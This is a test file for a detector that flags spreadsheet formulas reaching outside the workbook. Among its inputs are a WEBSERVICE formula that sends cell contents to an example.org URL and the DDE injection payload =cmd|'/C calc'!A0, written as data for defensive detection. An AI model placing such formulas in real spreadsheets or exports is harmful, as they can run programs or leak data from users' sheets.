import { reachesOutside } from "../../src/share/outside";

test.each([
  ['=WEBSERVICE("http://example.org/"&A1)', "it asks another place for its value (WEBSERVICE)"],
  ['=1+_xlfn.webservice ("http://example.org/")', "it asks another place for its value (WEBSERVICE)"],
  ['=@FILTERXML(A1,"//a")', "it asks another place for its value (FILTERXML)"],
  ['=_xlfn.IMAGE("https://example.org/x.png")', "it asks another place for its value (IMAGE)"],
  ['=RTD("server",,"topic")', "it asks another place for its value (RTD)"],
  ["=MAP(A1:A3,WEBSERVICE)", "it asks another place for its value (WEBSERVICE)"],
  ['=LET(f,_xlfn.WEBSERVICE,f("http://example.org/"))', "it asks another place for its value (WEBSERVICE)"],
  ['=_xlfn._xlws.PY("1")', "it asks another place for its value (PY)"],
  ["=cmd|'/C calc'!A0", "it asks another program for its value (a DDE link)"],
  ["=DUCT.AREA(app|topic!item)", "it asks another program for its value (a DDE link)"],
  ["=[1]Sheet1!A1*2", "it reads another workbook"],
  ["=[2]!name", "it reads another workbook"],
  ["=[Prices.xlsx]Sheet1!$A$1", "it reads another workbook"],
  ["='C:\\shop\\[Prices.xlsx]My sheet'!A1", "it reads another workbook"],
  ["='https://example.org/[Prices.xlsx]Sheet1'!A1", "it reads another workbook"],
  ["=SUM(A1:A3)+'[Bob''s.xlsx]S'!A1", "it reads another workbook"],
  ['=INDIRECT("[Prices.xlsx]Sheet1!A1")', "it reads another workbook"],
])("%s reaches outside: %s", (formula, why) => expect(reachesOutside(formula)).toBe(why));

test.each([
  ['=DUCT.AREA(A1)&" WEBSERVICE(1) [x]S! a|b ""IMAGE(2)"""'],
  ["='WEBSERVICE'!A1+WEBSERVICE!B2"], // sheets of that name
  ["='a|b'!A1"],
  ["=Table1[Column]*Other!A1"],
  ["=Table1[[#All],[a]]+SUM(Other!A1:A2)"],
  ["=webservice_price*2"],
  ["=MY.IMAGE.X+IMAGES"],
  ['=INDIRECT("A"&ROW())'],
  ["=IF(A1>2,{1,2;3,4},-B2%)"],
])("%s does not", (formula) => expect(reachesOutside(formula)).toBeNull());
